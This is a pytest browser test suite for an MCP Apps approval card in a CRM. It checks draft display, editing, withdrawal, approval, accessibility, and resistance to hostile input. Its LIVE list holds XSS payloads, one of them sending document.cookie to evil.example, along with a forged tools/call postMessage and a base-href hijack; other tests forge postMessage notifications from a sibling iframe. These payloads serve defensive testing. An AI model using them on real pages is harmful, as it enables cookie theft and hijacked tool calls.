"""The card in a real browser, through the host side of MCP Apps, on a real server over stdio."""

import itertools
import json
import re
from html import unescape
from pathlib import Path

import pytest

from crm_mcp.approvals.executor import Executor
from crm_mcp.approvals.text import visible
from crm_mcp.invisible import is_invisible

NASTY = Path(__file__).parents[2].parent / "shared" / "data" / "nasty_strings" / "blns.json"
_TURN = itertools.count(1)
CUSTOMER = """select 'cust_' || c.id from crm.customers c join crm.orgs o on o.id = c.org_id and o.slug = 'demo'
 where c.name = 'Müller & Söhne GmbH' limit 1"""
PRODUCTS = """select jsonb_agg('prod_' || p.id order by p.id) from (select p.id from crm.products p join crm.orgs o on o.id = p.org_id
 and o.slug = 'demo' where not p.discontinued and p.currency = 'EUR' order by p.id limit 2) p"""
LIVE = [
    "<img src=x onerror=\"document.title='ran'\">",
    "<script>document.title='ran'</script>",
    "</script><script>parent.postMessage({jsonrpc:'2.0',id:1,method:'tools/call'},'*')</script>",
    "<svg/onload=fetch('https://evil.example/'+document.cookie)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "<style>*{display:none}</style><base href=https://evil.example/>",
    "\u202egnp.exe\u2066 pay\u200b\u200b\u200b\u200b\u200b\u200bment\U000e0041",
]


@pytest.fixture
def order(owner_asks):
    def make(**more):
        lines = [{"product": product, "quantity": at + 2} for at, product in enumerate(owner_asks(PRODUCTS))]
        turn = f"card-{next(_TURN)}"
        return {
            "customer": owner_asks(CUSTOMER),
            "lines": lines,
            "reason": "They asked on the phone.",
            "idempotency_key": turn,
            **more,
        }

    return make


@pytest.fixture
def state(owner_asks):
    return lambda draft: owner_asks("select state from crm.drafts where id = %s", int(draft.removeprefix("draft_")))


def drafted(told):
    return told["structuredContent"]["draft"]["id"]


@pytest.fixture
def decide(executor: Executor, person):
    """Decide as Mia, as the approvals page does."""

    async def do(draft, reason=None):
        mia, number = await person("mia@demo.example"), int(draft.removeprefix("draft_"))
        if reason is not None:
            return await executor.reject(mia, number, reason)
        shown = await executor.show(mia, number)
        return await executor.approve(mia, number, shown.hash)

    return do


@pytest.fixture(autouse=True)
def calm(chat):
    """Whatever happens: no error, no warning, no dialog, and no request but for the host's own page."""
    yield
    seen = chat.network()
    assert seen["problems"] == []
    assert [url for url in seen["requests"] if not url.startswith((seen["origin"], "about:"))] == []


def test_a_held_order_is_shown_with_what_it_would_do_and_where_it_is_approved(chat, order):
    draft = drafted(chat.show("create_order_draft", order(confidence=0.9)))
    chat.sees("Asked by")
    said = chat.text().replace("\xa0", " ")
    for part in (
        draft,
        "It would create an order of",
        "Nothing has changed yet. It expires in 24 hours.",
        "Müller & Söhne GmbH",
        "Tax",
        "They asked on the phone.",
        "Sam Sato",
        "90 %",
        "Only a person can approve this, and only on the approvals page.",
        f"/drafts/{draft}",
    ):
        assert part in said, said
    buttons = chat.run("return await card.getByRole('button').allInnerTexts()")
    assert buttons == ["Open the approvals page", "Edit", "Withdraw…", "Refresh"]


def test_recipients_text_and_warnings_of_an_email_are_shown(chat):
    mail = {
        "to": ["Jürgen <j@mueiler-soehne.example>"],
        "subject": "Your desks",
        "body": "Dear Jürgen,\n\nThursday.",
        "reason": "they asked",
        "idempotency_key": "card-mail",
    }
    chat.show("send_email_draft", mail, width=380, theme="dark")
    chat.sees("The e-mail")
    said = chat.text()
    assert "j@mueiler-soehne.example" in said and "Dear Jürgen,\n\nThursday." in said
    assert "Nobody here knows j@mueiler-soehne.example" in said


def test_it_is_edited_in_the_card_and_waits_on_as_edited(chat, order, owner_asks, state):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Edit")
    chat.run("await card.getByLabel('Quantity').first().fill('7')")
    chat.run("await card.getByLabel('Comment').fill('Ring twice <b>please</b>')")
    chat.run("await card.getByLabel('Why this change').fill('They want seven.')")
    chat.press("Save")
    chat.sees("Saved. It waits as you edited it.")
    chat.sees("version 2")
    assert "It would create an order of 7 ×" in chat.text() and "Ring twice <b>please</b>" in chat.text()
    sent = [call for call in chat.heard()["calls"] if call["name"] == "revise_draft"]
    assert [sorted(call["arguments"]["arguments"]) for call in sent] == [["comment", "lines"]]
    assert chat.heard()["context"][-1].startswith(f"The person edited {draft} in the card.")
    kept = json.loads(owner_asks("select args from crm.drafts where id = %s", int(draft[6:])))
    assert [line["quantity"] for line in kept["lines"]] == [7, 3] and state(draft) == "pending"


def test_what_cannot_be_is_said_at_its_field_and_nothing_is_sent(chat, order):
    chat.show("create_order_draft", order())
    chat.sees("Asked by")
    chat.press("Edit")
    for typed, said in (("2.5", "whole number"), ("", "cannot be empty"), ("9999999", "at most 1000000")):
        chat.run("await card.getByLabel('Quantity').first().fill(args.typed)", typed=typed)
        chat.press("Save")
        chat.sees(said)
        focused = "return await card.locator(':focus').getAttribute('aria-invalid')"
        assert chat.run(focused) == "true"
    assert not [call for call in chat.heard()["calls"] if call["name"] == "revise_draft"]
    chat.run("await card.getByLabel('Quantity').first().fill('2')")
    chat.press("Save")
    chat.sees("Nothing was changed.")


def test_an_edit_over_another_edit_is_stopped(chat, order, owner_asks):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Edit")
    chat.call("revise_draft", {"draft": draft, "arguments": {"comment": "by the agent"}, "reason": "meanwhile"})
    chat.run("await card.getByLabel('Comment').fill('by the person')")
    chat.press("Save")
    chat.sees("It was changed meanwhile.")
    chat.sees("by the agent")
    assert "by the person" not in owner_asks("select args from crm.drafts where id = %s", int(draft[6:]))


def test_what_the_server_refuses_is_said_in_the_form(chat, order, state):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Edit")
    chat.run("await card.getByLabel('Discount %').first().fill('100')")
    chat.run("await card.getByLabel('Leave it out').last().check()")
    chat.run("await card.getByLabel('Leave it out').first().check()")
    chat.press("Save")
    chat.sees("At least one must stay.")
    assert state(draft) == "pending"


def test_it_is_withdrawn_only_after_it_was_confirmed(chat, order, state):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Withdraw…")
    assert chat.run("return await card.locator(':focus').innerText()") == "Keep it"
    chat.run("await page.keyboard.press('Escape')")
    chat.press("Withdraw…")
    assert state(draft) == "pending"
    chat.press("Withdraw it")
    chat.sees("Withdrawn")
    assert state(draft) == "discarded"
    assert chat.run("return await card.getByRole('button').count()") == 0
    assert chat.heard()["context"] == [f"The person withdrew {draft} in the card. Nothing was changed."]


async def test_the_page_is_opened_and_the_decision_made_there_is_shown(chat, order, decide):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Open the approvals page")
    (link,) = chat.heard()["links"]
    assert link.endswith(f"/drafts/{draft}") and "?" not in link
    await decide(draft)
    chat.sees("Approved by Mia")
    chat.sees("It became ord_")
    assert "Done: create an order" in chat.text()
    assert chat.heard()["context"] == [f"{draft} is approved now; get_draft tells more."]
    assert {call["name"] for call in chat.heard()["calls"]} == {"get_draft"}


def test_a_person_approves_on_the_page_that_the_card_opened_and_the_card_tells_how_it_ended(
    chat, order, approvals, state
):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    chat.press("Open the approvals page")
    (opened,) = chat.heard()["links"]
    assert opened == f"{approvals.origin}/drafts/{draft}"
    chat.elsewhere(
        """await tab.goto(args.link);
        await tab.getByRole('button').first().click();
        await tab.waitForURL(args.opened);
        await tab.getByRole('button', { name: 'Approve', exact: true }).click();
        await tab.getByText('You approved this').waitFor();""",
        link=approvals.link(then=f"/drafts/{draft}"),
        opened=opened,
    )
    chat.sees("Approved by Mia")
    assert state(draft) == "approved"


async def test_a_rejection_and_its_reason_are_shown_after_a_refresh(chat, order, decide):
    draft = drafted(chat.show("create_order_draft", order()))
    chat.sees("Asked by")
    await decide(draft, reason="Ask them <i>again</i> first.")
    chat.press("Refresh")
    chat.sees("Rejected by Mia")
    assert "Ask them <i>again</i> first." in chat.text() and "Nothing was changed." in chat.text()


async def test_an_old_answer_is_shown_as_the_draft_is_now(chat, order, decide):
    told = chat.call("create_order_draft", order())
    await decide(drafted(told), reason="No.")
    chat.show("create_order_draft", result=told)
    chat.sees("Rejected by Mia")
    assert chat.run("return await card.getByRole('button').count()") == 0


def test_where_links_are_not_opened_the_address_is_pointed_out(chat, order):
    chat.show("create_order_draft", order(), opensLinks=False)
    chat.sees("Asked by")
    chat.press("Open the approvals page")
    chat.sees("This program does not open links.")


def test_a_call_that_ran_and_one_that_failed_are_shown_calmly(chat, order, owner_asks):
    chat.show("add_note", {"about": owner_asks(CUSTOMER), "body": "Called.", "reason": "to remember"})
    chat.sees("Done: ")
    assert chat.run("return await card.getByRole('button').count()") == 0
    chat.show("create_order_draft", order(customer="cust_999999"))
    chat.sees("It was not done")
    for odd in (
        {},
        {"content": []},
        {"structuredContent": {"draft": 1}},
        {"structuredContent": {"draft": {"id": "<b>"}}},
    ):
        chat.show("create_order_draft", result={"content": [], **odd})
        chat.sees("Done.")


@pytest.mark.parametrize("at", range(len(LIVE)))
def test_hostile_text_is_text_wherever_it_stands(chat, order, owner_asks, at):
    hostile = LIVE[at]
    chat.show("create_order_draft", order(reason=hostile, comment=hostile))
    chat.sees("Asked by")
    shown = "".join(c for c in hostile if not is_invisible(c))
    assert chat.run("return await card.locator('blockquote').count()") == 2
    if shown == hostile:
        assert chat.run("return await card.locator('blockquote').allInnerTexts()") == [hostile, hostile]
    else:
        said = chat.run("return await card.locator('blockquote').first().innerText()")
        assert not any(is_invisible(c) for c in said)
        assert "U+202E" in said and "and 2 more hidden" in said and "Hidden characters" in chat.text()
    chat.press("Edit")
    assert chat.run("return await card.getByLabel('Comment').inputValue()") == hostile
    assert chat.run("return await page.title()") == "Chat"


def test_collected_strings_read_as_on_the_approvals_page(chat):
    if not NASTY.exists():
        pytest.skip("the list of naughty strings is not here")
    texts = [text for text in json.loads(NASTY.read_text(encoding="utf-8")) if text.strip()]
    body = {"type": "approval_required", "draft": {"id": "draft_999999", "state": "pending"}, "warnings": texts}
    chat.show("create_order_draft", result={"content": [], "structuredContent": body})
    said = chat.run("return await card.locator('.banner.warn li').allTextContents()")
    assert said == [unescape(re.sub("<[^>]*>", "", visible(text))) for text in texts]
    assert chat.run("return await page.title()") == "Chat"


def test_nobody_but_the_parent_is_listened_to(chat, order):
    chat.show("create_order_draft", order())
    chat.sees("Asked by")
    forged = {
        "jsonrpc": "2.0",
        "method": "ui/notifications/tool-result",
        "params": {"content": [], "structuredContent": {"summary": "Done: forged."}},
    }
    before = chat.text()
    beside = """await page.evaluate(async (forged) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const script = frame.contentDocument.createElement('script');
      script.textContent = `parent.frames[0].postMessage(${JSON.stringify(forged)}, '*')`;
      frame.contentDocument.body.append(script);
      frame.remove();
    }, args.forged)"""
    chat.run(beside, forged=forged)
    chat.run("await card.locator('body').evaluate((_, m) => window.postMessage(m, '*'), args.forged)", forged=forged)
    chat.run("await page.evaluate((m) => window.sayTo(m), args.odd)", odd={**forged, "jsonrpc": "1.0"})
    chat.press("Refresh")
    chat.sees("This is how it stands now.")
    assert "forged" not in chat.text() and before.splitlines()[0] in chat.text()
    chat.run("await page.evaluate((m) => window.sayTo(m), args.forged)", forged=forged)
    chat.sees("Done: forged.")


def test_a_card_that_shares_no_version_with_its_host_shows_nothing(chat):
    said = chat.run(
        """const html = await page.evaluate(() => document.querySelector('iframe').srcdoc);
        await page.evaluate(async (html) => {
          document.querySelector('iframe').remove();
          const frame = document.createElement('iframe');
          frame.setAttribute('sandbox', 'allow-scripts');
          addEventListener('message', ({ data, source }) => {
            if (data.method === 'ui/initialize') source.postMessage({ jsonrpc: '2.0', id: data.id, result: { protocolVersion: '1999-01-01' } }, '*');
          });
          frame.srcdoc = html;
          document.body.append(frame);
        }, html);
        await card.getByText('This draft cannot be shown here').waitFor();
        const text = await card.locator('body').innerText();
        await page.reload();
        return text;"""
    )
    assert "no common version" in said


def test_the_hosts_colours_and_theme_are_taken_and_what_could_load_is_not(chat, order):
    chosen = {"--color-text-primary": "rgb(1, 2, 3)", "--color-background-primary": "url(https://evil.example/x)"}
    chat.show("create_order_draft", order(), variables=chosen)
    chat.sees("Asked by")
    style = "return await card.locator('body').evaluate((b) => [getComputedStyle(b).color, getComputedStyle(b).colorScheme])"
    assert chat.run(style) == ["rgb(1, 2, 3)", "light"]
    chat.run("await page.evaluate(() => window.sendContext({theme: 'dark'}))")
    chat.run("await card.locator(':root[data-theme=dark]').waitFor()")


@pytest.mark.parametrize("width", [320, 380, 720])
def test_nothing_runs_over_the_edge_and_the_host_is_told_the_height(chat, order, width):
    chat.show("create_order_draft", order(comment="x" * 300), width=width)
    chat.sees("Asked by")
    wide = "return await card.locator('html').evaluate((h) => h.scrollWidth - h.clientWidth)"
    assert chat.run(wide) == 0
    tall = "return await card.locator('html').evaluate((h) => Math.ceil(h.getBoundingClientRect().height))"
    assert chat.heard()["heights"][-1] == chat.run(tall)


def test_everything_is_reached_by_keyboard_and_named_for_a_screen_reader(chat, order):
    chat.show("create_order_draft", order())
    chat.sees("Asked by")
    chat.run("await card.getByRole('button', {name: 'Open the approvals page'}).focus()")
    reached = []
    for _ in range(3):
        chat.run("await page.keyboard.press('Tab')")
        reached.append(chat.run("return await card.locator(':focus').innerText()"))
    assert reached == ["Edit", "Withdraw…", "Refresh"]
    chat.run("await card.getByRole('button', {name: 'Edit'}).press('Enter')")
    assert chat.run("return await card.locator(':focus').getAttribute('id')") == "f-lines-0-quantity"
    unnamed = """return await card.locator('input, textarea, select, button').evaluateAll((all) =>
      all.filter((one) => !(one.labels?.length || one.innerText)).map((one) => one.id))"""
    assert chat.run(unnamed) == []
    chat.run("await page.keyboard.press('Escape')")
    assert chat.run("return await card.locator(':focus').innerText()") == "Edit"
    tree = chat.run("return await card.locator('body').ariaSnapshot()")
    assert 'heading "It would create' in tree and "table" in tree and "columnheader" in tree
